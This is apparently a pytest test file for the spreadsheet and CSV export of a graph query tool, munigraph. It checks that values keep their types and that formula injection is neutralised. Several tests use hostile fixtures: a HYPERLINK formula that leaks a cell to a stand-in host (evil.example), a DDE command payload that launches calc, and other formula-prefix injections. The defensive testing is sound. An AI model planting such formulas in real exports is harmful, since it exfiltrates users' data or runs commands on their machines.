"""Answers as spreadsheets (--format xlsx) and CSV with another separator (--csv-sep)."""

import csv
import datetime
import io
import json
import zipfile
from xml.etree import ElementTree

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from munigraph import PartialDate, Rows
from munigraph.cli import cli
from munigraph.language import speaking
from munigraph.queries.output import BOM, format_rows, headers
from munigraph.queries.spreadsheet import workbook


@pytest.fixture
def data(graph):
    if graph.store.folder is None:
        pytest.skip("runs the command line on the embedded store")
    return ["--data", str(graph.store.folder.path)]


def run(*args):
    result = CliRunner().invoke(cli, [str(a) for a in args])
    assert result.exit_code == 0, result.output
    return result


def sheet_rows(sheet):
    return [[c.value for c in row] for row in sheet.iter_rows()]


MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"  # the namespace of a sheet's XML


def xml_cells(book: bytes) -> dict:
    """The cells of each sheet of the workbook ``book`` as its XML holds them, read without
    openpyxl: ``{"sheet1": {"A1": (type, text)}}``; a formula's type is ``"f"``, its text the
    formula."""
    sheets = {}
    with zipfile.ZipFile(io.BytesIO(book)) as files:
        names = files.namelist()
        shared = ([''.join(s.itertext()) for s in ElementTree.fromstring(files.read("xl/sharedStrings.xml"))]
                  if "xl/sharedStrings.xml" in names else [])
        for name in names:
            if name.startswith("xl/worksheets/sheet"):
                cells = sheets[name.removeprefix("xl/worksheets/").removesuffix(".xml")] = {}
                for c in ElementTree.fromstring(files.read(name)).iter(f"{MAIN}c"):
                    kind, formula = c.get("t", "n"), c.find(f"{MAIN}f")
                    text = "".join(c.itertext())
                    cells[c.get("r")] = (("f", formula.text) if formula is not None
                                         else (kind, shared[int(text)]) if kind == "s" else (kind, text))
    return sheets


def formulas(book: bytes) -> list:
    """The formulas in the sheets of the workbook ``book``, from its XML."""
    return [text for cells in xml_cells(book).values() for kind, text in cells.values() if kind == "f"]


def as_read_back(value):
    """What a JSON value of the answer reads back as from the spreadsheet."""
    if isinstance(value, list):
        value = "; ".join(value)
    if isinstance(value, str):
        value = " ".join(value.split())
    return value if value != "" else None


def test_query_xlsx_holds_the_rows_of_json(data, tmp_path):
    out = tmp_path / "amal.xlsx"
    answer = json.loads(run("query", "partners", "-p", "actor=AMAL", "--format", "json", *data).output)
    written = run("query", "partners", "-p", "actor=AMAL", "--format", "xlsx", "-o", out, *data)
    assert f"Wrote {out}: {len(answer)} rows." in written.output
    book = load_workbook(out)
    assert book.sheetnames == ["Results", "About"]
    results = book["Results"]
    keys = list(answer[0])
    assert sheet_rows(results)[0] == headers(keys)  # English without --lang
    assert results.freeze_panes == "A2" and results["A1"].font.bold
    assert sheet_rows(results)[1:] == [[as_read_back(row[k]) for k in keys] for row in answer]
    assert all(c.data_type != "f" for row in results.iter_rows() for c in row)
    about = {row[0]: row[1:] for row in sheet_rows(book["About"]) if row[0]}
    assert about["Question"][0] == "partners"
    assert about["actor"][0] == "AMAL"
    assert about["Rows"][0] == len(answer)
    lines = sheet_rows(book["About"])
    start = [row[0] for row in lines].index("Sources of the cooperations in these rows")
    assert lines[start + 1][:3] == headers(["source", "publisher", "published"])
    titles = [row[0] for row in lines[start + 2:]]
    assert titles and titles == sorted(titles, key=str.casefold)


def test_values_are_typed(data, tmp_path):
    out = tmp_path / "anmp.xlsx"
    run("query", "partners", "-p", "actor=ANMP", "--format", "xlsx", "-o", out, *data)
    results = load_workbook(out)["Results"]
    names = [c.value for c in results[1]]
    starts = [row[names.index("start")] for row in results.iter_rows(min_row=2)]
    days = [c for c in starts if isinstance(c.value, datetime.datetime)]
    assert datetime.datetime(2016, 2, 23) in [c.value for c in days]  # known to the day: a date
    assert all(c.is_date and c.number_format == "yyyy-mm-dd" for c in days)
    assert "2020" in [c.value for c in starts]  # known to the year: its text
    assert all(c.data_type == "s" for c in starts if isinstance(c.value, str))

    out = tmp_path / "values.xlsx"
    run("cypher", "RETURN 7 AS n, 2.5 AS x, true AS yes, date('2020-05-20') AS day, "
        "['a', 'b'] AS both, '=1+1' AS formula, '@SUM(A1)' AS at, '-2+3' AS minus", "--format", "xlsx",
        "-o", out, *data)
    book = load_workbook(out)
    row = {c.value: v for c, v in zip(book["Results"][1], book["Results"][2])}
    assert [type(row[k].value) for k in ("n", "x", "yes")] == [int, float, bool]
    assert row["day"].value == datetime.datetime(2020, 5, 20) and row["day"].is_date
    assert row["both"].value == "a; b"
    for key, text in (("formula", "=1+1"), ("at", "@SUM(A1)"), ("minus", "-2+3")):
        assert (row[key].value, row[key].data_type) == (text, "s")
    assert all(c.data_type != "f" for sheet in book for r in sheet.iter_rows() for c in r)
    about = {r[0]: r[1] for r in sheet_rows(book["About"]) if r[0]}
    assert about["Cypher"].startswith("RETURN 7 AS n")
    assert "munigraph query evidence" in about["Sources"]


def test_headers_and_sheets_in_portuguese(data, tmp_path):
    out = tmp_path / "amal.xlsx"
    run("query", "partners", "-p", "actor=AMAL", "--format", "xlsx", "-o", out, "--lang", "pt", *data)
    book = load_workbook(out)
    assert book.sheetnames == ["Resultados", "Sobre"]
    header = [c.value for c in book["Resultados"][1]]
    with speaking("pt"):
        assert header == headers(["actor_id", "partner", "partner_id", "cooperation", "kind", "role",
                                  "partner_role", "topics", "start", "end"])
    assert "parceiro" in header
    assert book["Sobre"]["A1"].value == "Pergunta"


def test_csv_with_semicolons_keeps_the_bom(data, tmp_path):
    shown = run("query", "partners", "-p", "actor=AMAL", "--format", "csv", "--csv-sep", ";", *data).output
    assert shown.startswith(BOM)
    rows = list(csv.reader(io.StringIO(shown.removeprefix(BOM)), delimiter=";"))
    assert rows[0][:3] == ["actor_id", "partner", "partner_id"]  # English keys, whatever the language
    assert len(rows) > 2 and all(len(row) == len(rows[0]) for row in rows)
    assert any("; " in cell for row in rows[1:] for cell in row)  # lists stay whole, quoted

    out = tmp_path / "amal.csv"
    run("query", "partners", "-p", "actor=AMAL", "--format", "csv", "--csv-sep", "\\t", "-o", out, *data)
    assert out.read_bytes().startswith(BOM.encode("utf-8"))
    written = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig")), delimiter="\t"))
    assert written == rows


@pytest.mark.pure
@pytest.mark.parametrize("args, message", [
    (["--format", "xlsx"], "--format xlsx writes a file: name it with -o FILE.xlsx"),
    (["--format", "xlsx", "-o", "amal.csv"], "ends in .xlsx, and amal.csv does not"),
    (["-o", "amal.xlsx"], "amal.xlsx would not be a spreadsheet: add --format xlsx"),
    (["--csv-sep", ";"], "--csv-sep goes with --format csv"),
])
def test_a_wrong_output_is_refused_before_anything_runs(args, message, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    for command in (["query", "partners", "-p", "actor=AMAL"], ["cypher", "RETURN 1 AS n"]):
        result = CliRunner().invoke(cli, [*command, *args])
        assert result.exit_code == 2
        assert message in result.output
    assert list(tmp_path.iterdir()) == []


@pytest.mark.pure
def test_workbook_keeps_text_as_text_and_numbers_exact():
    day = datetime.date(2013, 5, 17)
    rows = Rows([{"text": text, "n": 2 ** 60, "month": PartialDate(day, "month"), "day": PartialDate(day),
                  "old": datetime.date(1850, 1, 1), "none": None}
                 for text in ("=1+1", "+1", "-1", "@A1", "\t=1", "#N/A", "a\x01b")],
                 ["text", "n", "month", "day", "old", "none"])
    now = datetime.datetime(2024, 1, 2, 3, 4, 5, tzinfo=datetime.timezone.utc)
    data = workbook(rows, query="find", parameters={"text": "x"}, sources=[], now=now)
    book = load_workbook(io.BytesIO(data))
    cells = list(book["Results"].iter_rows(min_row=2))
    assert [r[0].value for r in cells] == ["=1+1", "+1", "-1", "@A1", "=1", "#N/A", "ab"]
    assert {c.data_type for r in cells for c in r[:5]} == {"s", "d"}
    assert cells[0][1].value == str(2 ** 60)  # beyond a spreadsheet number's digits: text
    assert [c.value for c in cells[0][2:6]] == ["2013-05", datetime.datetime(2013, 5, 17), "1850-01-01", None]
    about = sheet_rows(book["About"])
    assert ["Run on", "2024-01-02 03:04:05+00:00"] == about[[r[0] for r in about].index("Run on")][:2]
    assert sheet_rows(load_workbook(io.BytesIO(workbook(rows, query="find", parameters={"text": "x"},
                                                        sources=[], now=now)))["About"]) == about


@pytest.mark.pure
def test_csv_for_people_never_holds_a_formula():
    rows = [{"text": text, "n": -3, "x": 2.5, "list": ["-x", "y"], "yes": True}
            for text in ('=HYPERLINK("http://evil.example/?leak="&A1,"x")', "@SUM(1)", "+1+1", "-1+1", "Olhão")]
    written = list(csv.reader(io.StringIO(format_rows(rows, list(rows[0]), "csv").removeprefix(BOM))))
    assert [row[0] for row in written[1:]] == ["'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")",
                                               "'@SUM(1)", "'+1+1", "'-1+1", "Olhão"]
    assert {tuple(row[1:]) for row in written[1:]} == {("-3", "2.5", "'-x; y", "True")}  # numbers stay numbers
    assert json.loads(format_rows(rows, list(rows[0]), "json"))[0]["text"].startswith("=HYPERLINK")


@pytest.mark.pure
@pytest.mark.parametrize("sep", [",", ";", "\t"])
def test_csv_cells_a_spreadsheet_would_run_get_a_quote_whatever_the_separator(sep):
    written = {'=HYPERLINK("http://evil.example/?leak="&A1,"x")': '\'=HYPERLINK("http://evil.example/?leak="&A1,"x")',
               "@SUM(1)": "'@SUM(1)", "+1+1": "'+1+1", "-1+1": "'-1+1", "-": "'-",
               "\t=1+1": "'=1+1", "\r@SUM(1)": "'@SUM(1)", "\t\r+1": "'+1",  # the cell drops leading space
               "\tOlhão": "Olhão", "a=b": "a=b", "Olhão": "Olhão", "": ""}
    rows = Rows([{"text": text, "n": -3, "x": -0.5, "list": [text, "b"]} for text in written],
                ["text", "n", "x", "list"])
    kept = json.loads(json.dumps(rows))
    cells = list(csv.reader(io.StringIO(rows.format("csv", sep=sep).removeprefix(BOM)), delimiter=sep))
    assert cells[0] == ["text", "n", "x", "list"]
    assert [row[0] for row in cells[1:]] == list(written.values())
    assert {(row[1], row[2]) for row in cells[1:]} == {("-3", "-0.5")}  # numbers stay numbers
    assert [row[3] for row in cells[1:]] == [f"{after}; b" for after in written.values()]  # lists too
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for row in cells[1:] for c in row[:1] + row[3:])
    assert json.loads(rows.format("json")) == kept == json.loads(json.dumps(rows))  # JSON and the rows unchanged


@pytest.mark.pure
def test_a_workbook_holds_text_never_a_formula():
    hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "@SUM(1)", "+1+1", "-1+1", "=1+1"]
    rows = Rows([{"text": text, "list": [text, "b"], "n": -3} for text in hostile], ["text", "list", "n"])
    book = workbook(rows, query="RETURN '=1+1' AS text", parameters={"text": "=cmd|' /C calc'!A0"}, sources=[])
    assert formulas(book) == []
    cells = xml_cells(book)
    assert [cells["sheet1"][f"A{n}"][1] for n in range(2, 7)] == hostile
    assert [cells["sheet1"][f"B{n}"][1] for n in range(2, 7)] == [f"{text}; b" for text in hostile]
    assert {cells["sheet1"][f"{c}{n}"][0] for c in "AB" for n in range(1, 7)} <= {"inlineStr", "s"}
    assert {cells["sheet1"][f"C{n}"] for n in range(2, 7)} == {("n", "-3")}
    assert ("inlineStr", "=cmd|' /C calc'!A0") in cells["sheet2"].values()
    assert ("inlineStr", "RETURN '=1+1' AS text") in cells["sheet2"].values()
    results = load_workbook(io.BytesIO(book))["Results"]
    assert all(results[f"A{n}"].quotePrefix for n in range(2, 7))  # stays text when edited, too


def test_hostile_names_reach_csv_neutralised_and_json_unchanged(empty_graph, tmp_path):
    """Actors named as formulas, loaded from a facts file into a store of the test's own, in
    `munigraph query --format csv` and explore's CSV download (a leading '), unchanged in JSON
    and the Python API, and text in explore's spreadsheet download."""
    from starlette.testclient import TestClient

    from munigraph.viz.explore import app

    evil, other = '=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+Vila Nova+1"
    path = tmp_path / "formulas.csv"
    path.write_text("party_a,party_a_country,party_b,party_b_country,relation,programme,topic,year,"
                    "source_address,quote\n" + '"{}",Portugal,"{}",Spain,exchange,,,2019,'
                    "https://example.org/formulas,a quote\n".format(evil.replace('"', '""'), other),
                    encoding="utf-8")
    empty_graph.load([path])
    data = ["--data", empty_graph.store.folder.path]
    shown = run("query", "partners", "-p", f"actor={other}", "--format", "csv", *data).output
    rows = list(csv.DictReader(io.StringIO(shown.removeprefix(BOM))))
    client = TestClient(app(empty_graph), base_url="http://127.0.0.1")
    downloaded = client.get("/api/query/partners.csv", params={"actor": other}).content.decode("utf-8-sig")
    assert list(csv.DictReader(io.StringIO(downloaded))) == rows
    assert [row["partner"] for row in rows] == ["'" + evil]
    assert [row["partner"] for row in empty_graph.query("partners", actor=other)] == [evil]
    answer = json.loads(run("query", "partners", "-p", f"actor={other}", "--format", "json", *data).output)
    assert [row["partner"] for row in answer] == [evil]
    book = client.get("/api/query/partners.xlsx", params={"actor": other}).content
    assert evil in [c.value for row in load_workbook(io.BytesIO(book))["Results"].iter_rows() for c in row]
    assert formulas(book) == []
